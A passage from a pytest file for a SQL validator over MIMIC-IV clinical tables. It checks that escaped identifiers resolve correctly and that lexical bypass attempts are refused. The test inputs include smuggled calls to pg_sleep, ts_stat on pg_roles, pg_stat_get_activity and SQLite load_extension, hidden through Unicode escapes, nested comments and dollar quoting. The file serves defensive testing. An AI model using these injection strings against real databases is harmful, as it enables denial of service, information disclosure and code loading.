        "WHERE EXISTS (SELECT 1 FROM mimiciv_icu.icustays i WHERE i.subject_id = p.subject_id)"
    )
    assert referenced_tables(sql) == ("mimiciv_hosp.admissions", "mimiciv_icu.icustays", "patients")
    assert referenced_tables("SELECT * FROM patients", "sqlite") == ("patients",)


def test_referenced_tables_rejects_what_it_cannot_parse():
    with pytest.raises(SqlValidationError) as info:
        referenced_tables("SELECT 1; SELECT 2")
    assert info.value.code == "multiple_statements"


@pytest.mark.parametrize(
    "sql",
    [
        'SELECT U&"\\0067ender" FROM mimiciv_hosp.patients',
        "SELECT U&\"!0067ender\" UESCAPE '!' FROM mimiciv_hosp.patients",
        'SELECT u&"\\+000067ender" FROM U&"mimiciv_hosp".U&"p\\0061tients"',
        'SELECT "GENDER" FROM mimiciv_hosp.patients /* a comment */ -- and another',
    ],
)
def test_escaped_names_are_read_as_the_database_reads_them(sql):
    assert validate_sql(sql, CATALOG).columns == ("mimiciv_hosp.patients.gender",)


@pytest.mark.parametrize(
    ("sql", "code", "named"),
    [
        ('SELECT U&"\\0070g_sleep"(3) FROM mimiciv_hosp.patients u LIMIT 1', "denied_function", "pg_sleep"),
        ("SELECT U&\"!0070g_sleep\" UESCAPE '!' (3)", "denied_function", "pg_sleep"),
        ("SELECT E'\\'' , pg_sleep(1) --'", "denied_function", "pg_sleep"),
        ("SELECT $a$'$a$, pg_sleep(1) --'", "denied_function", "pg_sleep"),
        ("SELECT 1 /* /* */ AS x, '*/ , pg_sleep(1) --'", "parse_error", "comment inside a comment"),
        ("SELECT 1 /* unterminated", "parse_error", "not closed"),
        ('SELECT U&"\\zzzz"(1)', "parse_error", "invalid Unicode escape"),
        ('SELECT ""(1)', "parse_error", "empty quoted name"),
        ("SELECT\u00a0pg_sleep(1)", "parse_error", "not allowed outside a string"),
        ("SELECT * FROM ts_stat('SELECT to_tsvector(rolname) FROM pg_roles')", "denied_function", "ts_stat"),
        ("SELECT pg_show_all_settings()", "denied_function", "pg_show_all_settings"),
        ("SELECT * FROM pg_stat_get_activity(NULL)", "denied_function", "pg_stat_get_activity"),
        ("SELECT pg_catalog.now()", "denied_function", "pg_catalog.now"),
        ("SELECT 'pg_sleep'::regproc", "denied_type", "regproc"),
        ("SELECT 'x'::pg_catalog.regclass", "denied_type", "regclass"),
        ("SELECT $1", "denied_syntax", "parameters"),
        ("SELECT 1 OPERATOR(pg_catalog.+) 2", "denied_syntax", "OPERATOR"),
        ("SELECT (p).pg_sleep FROM mimiciv_hosp.patients p", "denied_syntax", "pg_sleep"),
        ("SELECT strftime('%Y', admittime) FROM mimiciv_hosp.admissions", "denied_function", "strftime"),
    ],
)
def test_canonical_reading_closes_the_lexical_bypasses(sql, code, named):
    error = rejected(sql)
    assert error.code == code
    assert named in error.message


def test_sqlite_comments_do_not_nest_so_a_nested_one_is_refused():
    # SQLite ends the comment at the first */ and would call load_extension; sqlglot nests.
    assert rejected("SELECT 1 /* /* */, load_extension('x') -- */", SQLITE).code == "parse_error"
    assert validate_sql("SELECT strftime('%Y', admittime), julianday('now') FROM admissions", SQLITE)
    assert rejected("SELECT [load_extension]('x')", SQLITE).code == "denied_function"


def test_referenced_tables_reads_escaped_names():
    assert referenced_tables('SELECT * FROM U&"mimiciv_hosp".U&"\\0070atients"') == ("mimiciv_hosp.patients",)
